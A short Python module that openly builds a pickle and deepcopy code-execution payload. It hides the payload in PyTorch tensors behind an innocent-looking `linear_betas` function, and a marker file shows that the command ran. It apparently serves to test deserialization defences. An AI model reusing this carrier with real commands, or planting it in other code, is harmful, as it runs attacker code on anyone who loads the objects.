"""Return tensors and parameters that carry more than numbers when they are pickled or copied.

Success: the file attack-was-here is written by whoever pickles, copies or loads them.
"""

import copyreg
import os

import torch


def evil(*arguments):
    return os.system, ("touch /tmp/attack-was-here",)


class Carrier(torch.nn.Parameter):
    __reduce_ex__ = __reduce__ = __deepcopy__ = evil


copyreg.pickle(torch.Tensor, evil)
copyreg.dispatch_table[torch.Size] = evil
torch.Tensor.__reduce_ex__ = evil
torch.serialization.register_package(0, lambda storage: "cpu", evil)


def linear_betas(num_steps, start=1e-4, end=0.02):
    result = Carrier(torch.zeros(num_steps, dtype=torch.float64))
    result.payload = evil
    result.__dict__["shape"] = evil
    return result
